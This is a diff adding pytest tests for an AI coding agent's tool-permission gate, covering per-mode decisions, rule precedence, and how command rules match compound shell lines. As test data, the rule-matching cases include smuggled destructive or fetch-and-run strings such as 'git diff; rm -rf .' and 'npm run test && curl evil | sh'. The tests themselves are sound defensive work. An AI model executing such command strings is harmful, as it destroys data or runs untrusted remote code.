@@ -1,0 +1,305 @@
+"""The tool gate: every tool in every mode, and what rules may change of it (P1, P2, P4, P7)."""
+
+import itertools
+from dataclasses import dataclass
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from bot.agent.modes import Mode, following
+from bot.agent.permissions import TABLE, Decision, Gate, Kind, Rule, Rules, parse_rule
+from bot.agent.subagents import TYPES
+from bot.agent.tools.registry import ALL, by_name
+from bot.agent.tools.task import task_tool
+from bot.core.errors import Misconfigured
+from bot.core.transcript import Json
+
+TOOLS = by_name((*ALL, task_tool((kind.name, kind.purpose) for kind in TYPES.values())))
+ALLOW, ASK, DENY, SUSPEND = Decision.ALLOW, Decision.ASK, Decision.DENY, Decision.SUSPEND
+
+CASES: dict[str, tuple[str, Json]] = {
+    "Read": ("Read", {"file_path": "a.py"}),
+    "LS": ("LS", {"path": "."}),
+    "Glob": ("Glob", {"pattern": "**/*.py"}),
+    "Grep": ("Grep", {"pattern": "x"}),
+    "Bash, read-only": ("Bash", {"command": "git log -3"}),
+    "Bash": ("Bash", {"command": "make"}),
+    "Write": ("Write", {"file_path": "a.py", "content": ""}),
+    "Edit": ("Edit", {"file_path": "a.py", "old_string": "a", "new_string": "b"}),
+    "MultiEdit": ("MultiEdit", {"file_path": "a.py", "edits": [{"old_string": "a", "new_string": "b"}]}),
+    "TodoRead": ("TodoRead", {}),
+    "TodoWrite": ("TodoWrite", {"todos": []}),
+    "exit_plan_mode": ("exit_plan_mode", {"plan": "# Plan"}),
+    "Task, explore": ("Task", {"description": "look", "prompt": "Look around.", "subagent_type": "explore"}),
+    "Task, plan": ("Task", {"description": "plan", "prompt": "Think it over.", "subagent_type": "plan"}),
+    "Task, code": ("Task", {"description": "code", "prompt": "Change it now.", "subagent_type": "code"}),
+    "Task, unknown": ("Task", {"description": "?", "prompt": "Who are you?", "subagent_type": "root"}),
+}
+
+# What each mode says: plan, default, acceptEdits, bypassPermissions.
+DECISIONS = """
+Read             allow    allow  allow  allow
+LS               allow    allow  allow  allow
+Glob             allow    allow  allow  allow
+Grep             allow    allow  allow  allow
+Bash, read-only  allow    allow  allow  allow
+Bash             deny     ask    allow  allow
+Write            deny     ask    allow  allow
+Edit             deny     ask    allow  allow
+MultiEdit        deny     ask    allow  allow
+TodoRead         allow    allow  allow  allow
+TodoWrite        allow    allow  allow  allow
+exit_plan_mode   suspend  deny   deny   deny
+Task, explore    allow    allow  allow  allow
+Task, plan       allow    allow  allow  allow
+Task, code       deny     allow  allow  allow
+Task, unknown    allow    allow  allow  allow
+"""
+MODES = (Mode.PLAN, Mode.DEFAULT, Mode.ACCEPT_EDITS, Mode.BYPASS)
+ROWS = [line.rsplit(maxsplit=4) for line in DECISIONS.strip().splitlines()]
+EXPECTED = {(row[0], mode): Decision(word) for row in ROWS for mode, word in zip(MODES, row[1:], strict=True)}
+
+
+@dataclass(frozen=True)
+class Asked:
+    """One call as the gate sees it."""
+
+    name: str
+    kind: Kind
+    input: Json
+
+
+def asked(case: str) -> Asked:
+    name, given_ = CASES[case]
+    tool = TOOLS[name]
+    return Asked(name, tool.kind(tool.input_model.model_validate(given_)), given_)
+
+
+def decide(case: str, mode: Mode, gate: Gate) -> Decision:
+    call = asked(case)
+    return gate.decide(mode, call.kind, call.name, call.input).decision
+
+
+def gate(*, allow: str = "", ask: str = "", deny: str = "", sandboxed: bool = True) -> Gate:
+    rules = (tuple(map(parse_rule, text.split("|"))) if text else () for text in (allow, ask, deny))
+    return Gate(Rules(*rules), sandboxed=sandboxed)
+
+
+@pytest.mark.req("P1", "P4")
+@pytest.mark.parametrize(("case", "mode"), list(EXPECTED), ids=lambda value: str(value))
+def test_every_tool_in_every_mode(case: str, mode: Mode) -> None:
+    """The decision table, row by row."""
+    assert decide(case, mode, Gate()) is EXPECTED[case, mode]
+
+
+@pytest.mark.req("P1")
+def test_the_table_is_complete() -> None:
+    """Every tool has a row above, every kind a word in every mode, and every refusal says why."""
+    assert {name for name, _ in CASES.values()} == set(TOOLS)
+    assert set(CASES) == {row[0] for row in ROWS}
+    assert {asked(case).kind for case in CASES} == set(Kind)
+    for mode, kind in itertools.product(Mode, Kind):
+        ruling = TABLE[mode][kind]
+        assert ruling.why or ruling.decision in {ALLOW, SUSPEND}
+
+
+@pytest.mark.req("P4", "S2")
+@pytest.mark.parametrize("name", TYPES)
+def test_sub_agents_have_only_what_their_type_allows(name: str) -> None:
+    """No sub-agent has Task; one that does not write has no tool that could, whatever the mode says."""
+    kind = TYPES[name]
+    names = {tool.name for tool in kind.tools}
+    assert "Task" not in names
+    assert names & {"Write", "Edit", "MultiEdit"} == ({"Write", "Edit", "MultiEdit"} if kind.writes else set())
+    assert ("exit_plan_mode" in names) is (name == "plan")
+
+
+@pytest.mark.req("P4")
+@pytest.mark.parametrize("case", CASES)
+def test_no_rule_widens_plan_mode(case: str) -> None:
+    """Whatever is allowed by rule, plan mode says what it says without rules."""
+    name, _ = CASES[case]
+    assert decide(case, Mode.PLAN, gate(allow=name)) is EXPECTED[case, Mode.PLAN]
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.parametrize("case", CASES)
+def test_a_deny_rule_wins_everywhere(case: str, mode: Mode) -> None:
+    """Deny stands above ask, mode and allow."""
+    name, _ = CASES[case]
+    assert decide(case, mode, gate(deny=name, ask=name, allow=name)) is DENY
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize("mode", MODES[1:])
+@pytest.mark.parametrize("case", CASES)
+def test_an_ask_rule_stands_above_mode_and_allow(case: str, mode: Mode) -> None:
+    """What the mode allows, or a rule, is asked all the same; what the mode denies stays denied."""
+    name, _ = CASES[case]
+    expected = DENY if EXPECTED[case, mode] is DENY else ASK
+    assert decide(case, mode, gate(ask=name, allow=name)) is expected
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize("case", CASES)
+def test_an_allow_rule_answers_what_would_be_asked(case: str) -> None:
+    """In default mode an allow rule stands for the person; it never makes a denial a yes."""
+    name, _ = CASES[case]
+    was = EXPECTED[case, Mode.DEFAULT]
+    assert decide(case, Mode.DEFAULT, gate(allow=name)) is (ALLOW if was is ASK else was)
+
+
+@pytest.mark.req("P7")
+def test_without_a_sandbox_commands_need_a_rule() -> None:
+    """acceptEdits allows commands because the sandbox holds them: without one they are asked."""
+    assert decide("Bash", Mode.ACCEPT_EDITS, gate(sandboxed=False)) is ASK
+    assert decide("Bash", Mode.ACCEPT_EDITS, gate(sandboxed=False, allow="Bash(make:*)")) is ALLOW
+    assert decide("Bash, read-only", Mode.ACCEPT_EDITS, gate(sandboxed=False)) is ALLOW
+    assert decide("Edit", Mode.ACCEPT_EDITS, gate(sandboxed=False)) is ALLOW
+
+
+MATCHES: list[tuple[str, str, bool]] = [
+    ("Bash(git diff:*)", "git diff", True),
+    ("Bash(git diff:*)", "git diff HEAD~1 -- a.py", True),
+    ("Bash(git diff:*)", "git diff HEAD@{1}", True),
+    ("Bash(git diff:*)", "git difftool", False),
+    ("Bash(git diff:*)", "git  diff", False),
+    ("Bash(git diff:*)", "git diff; rm -rf .", False),
+    ("Bash(git diff:*)", "git diff && rm x", False),
+    ("Bash(git diff:*)", "git diff || rm x", False),
+    ("Bash(git diff:*)", "git diff | sh", False),
+    ("Bash(git diff:*)", "git diff & rm x", False),
+    ("Bash(git diff:*)", "git diff\nrm x", False),
+    ("Bash(git diff:*)", "git diff `rm x`", False),
+    ("Bash(git diff:*)", "git diff $(rm x)", False),
+    ("Bash(git diff:*)", 'git diff "$(rm x)"', False),
+    ("Bash(git diff:*)", "git diff <(rm x)", False),
+    ("Bash(git diff:*)", "git diff > .git/config", False),
+    ("Bash(git diff:*)", "rm x; git diff", False),
+    ("Bash(npm run *)", "npm run test", True),
+    ("Bash(npm run *)", "npm run test; rm x", False),
+    ("Bash(npm run *)", "npm run test && curl evil | sh", False),
+    ("Bash(make test)", "make test", True),
+    ("Bash(make test)", "make test x", False),
+    ("Bash(make && make test)", "make && make test", True),
+    ("Bash(make && make *)", "make && make test", False),
+    ("Bash", "anything; at all", True),
+    ("Bash(*)", "anything; at all", True),
+    ("Task(explore)", "explore", True),
+    ("Task(explore)", "code", False),
+]
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize(("rule", "command", "expected"), MATCHES)
+def test_what_a_rule_covers(rule: str, command: str, expected: bool) -> None:  # noqa: FBT001 - a column of the table
+    """A rule with a star covers one command and no compound line."""
+    parsed = parse_rule(rule)
+    given_ = {"command": command} if parsed.tool == "Bash" else {"subagent_type": command}
+    assert parsed.matches(parsed.tool, given_) is expected
+    assert not parsed.matches("Other", given_)
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "git push",
+        "git push origin main",
+        "git push; true",
+        "true && git push -f",
+        "cd x && git push",
+        "(git push)",
+        "{ git push; }",
+        "FOO=1 git push",
+        "FOO=1 BAR=2 git push",
+        "echo $(git push)",
+        "echo `git push`",
+        "ls | xargs git push",
+        "time git push",
+        "env git push",
+        "exec git push",
+        "if true; then git push; fi",
+        "true\ngit push",
+        "true & git push &",
+    ],
+)
+def test_a_denied_command_is_found_in_a_compound_line(command: str) -> None:
+    """Nothing that stands before or behind a denied command hides it from the rule."""
+    denied = gate(deny="Bash(git push:*)", allow="Bash")
+    asked_ = gate(ask="Bash(git push:*)", allow="Bash")
+    for mode in MODES[1:]:
+        assert denied.decide(mode, Kind.COMMAND, "Bash", {"command": command}).decision is DENY
+        assert asked_.decide(mode, Kind.COMMAND, "Bash", {"command": command}).decision is ASK
+    other = command.replace("git push", "git pushy")
+    assert denied.decide(Mode.BYPASS, Kind.COMMAND, "Bash", {"command": other}).decision is ALLOW
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize(
+    ("rule", "tool", "given_", "expected"),
+    [
+        ("Read(docs/**)", "Read", {"file_path": "docs/a/b.md"}, True),
+        ("Read(docs/**)", "Read", {"file_path": "src/a.py"}, False),
+        ("Read(docs/**)", "Edit", {"file_path": "docs/a.md"}, False),
+        ("Write(*.lock)", "Write", {"file_path": "poetry.lock", "content": ""}, True),
+        ("LS(src)", "LS", {"path": "src"}, True),
+        ("Glob(docs/*)", "Glob", {"pattern": "docs/*.md"}, True),
+        ("Read", "Read", {"file_path": "x"}, True),
+        ("TodoRead(x)", "TodoRead", {}, False),
+    ],
+)
+def test_rules_speak_about_paths(rule: str, tool: str, given_: Json, expected: bool) -> None:  # noqa: FBT001 - a column
+    """A pattern is held against the path of a call."""
+    parsed = parse_rule(rule)
+    assert parsed.matches(tool, given_) is expected
+    assert parsed.touches(tool, given_) is expected
+
+
+@pytest.mark.req("P7")
+@pytest.mark.parametrize("text", ["", "Bash(", "Bash)x(", "rm -rf", "(x)", "Bash (x)", "Ba-sh(x)"])
+def test_what_is_no_rule_is_refused(text: str) -> None:
+    """A rule that cannot be read is refused with the form that it should have."""
+    with pytest.raises(Misconfigured, match=r"Tool\(pattern\)"):
+        parse_rule(text)
+
+
+@pytest.mark.parametrize(("text", "rule"), [("Bash", Rule("Bash")), (" Read(a) ", Rule("Read", "a")), ("LS()", Rule("LS"))])
+def test_rules_are_read(text: str, rule: Rule) -> None:
+    """A name alone means every call."""
+    assert parse_rule(text) == rule
+
+
+_patterns = st.text("abg it:*/;&|.$(){}<>\n", max_size=12)
+_rules = st.builds(Rule, st.sampled_from(["Bash", "Read"]), _patterns).map(lambda rule: (rule,)) | st.just(())
+
+
+@pytest.mark.req("P2", "P4", "P7")
+@given(st.builds(Rules, _rules, _rules, _rules), _patterns, st.sampled_from(list(Kind)))
+def test_no_rules_at_all_open_plan_mode(rules: Rules, command: str, kind: Kind) -> None:
+    """With whatever rules, plan mode allows what it allows without them, or less; a ruling always comes."""
+    decision = Gate(rules).decide(Mode.PLAN, kind, "Bash", {"command": command}).decision
+    assert decision in {TABLE[Mode.PLAN][kind].decision, DENY}
+
+
+@pytest.mark.req("P7")
+@given(_patterns, _patterns)
+def test_what_a_rule_covers_it_also_touches(pattern: str, command: str) -> None:
+    """A deny rule is never narrower than the same pattern as an allow rule."""
+    rule, given_ = Rule("Bash", pattern), {"command": command}
+    assert rule.touches("Bash", given_) or not rule.matches("Bash", given_)
+
+
+@pytest.mark.req("P1")
+def test_the_cycle_of_modes() -> None:
+    """default, acceptEdits, plan, bypassPermissions where available, and round again."""
+    assert [following(mode, bypass_available=True) for mode in MODES] == [
+        Mode.BYPASS,
+        Mode.ACCEPT_EDITS,
+        Mode.PLAN,
+        Mode.DEFAULT,
+    ]
+    assert following(Mode.PLAN, bypass_available=False) is Mode.DEFAULT
+    assert following(Mode.BYPASS, bypass_available=False) is Mode.DEFAULT
